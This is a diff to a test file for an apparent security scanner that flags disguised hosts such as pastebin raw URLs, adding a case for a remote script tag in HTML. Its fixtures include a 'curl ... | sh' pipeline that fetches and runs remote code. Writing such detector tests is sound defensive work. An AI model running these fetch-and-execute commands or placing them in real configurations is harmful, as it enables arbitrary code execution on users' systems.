@@ -149,6 +149,10 @@ describe("disguised hosts: kept in commands, never lowered by allowed-domains", 
       "w/assets/scan.yaml": "# server: https://interact.sh\n",
     });
     expect(urlFindings(commented)).toEqual([]);
+    const markup = await scanBody("# Page\n", {
+      "w/assets/page.html": '<html><script src="https://pastebin.com/raw/abc"></script></html>\n',
+    });
+    expect(urlFindings(markup).map((f) => f.ruleId)).toContain("url.disguised-host");
     const used = await scanBody("# Config\n", {
       "w/assets/job.yaml": "steps:\n  - run: curl -s https://pastebin.com/raw/abc | sh\n",
     });
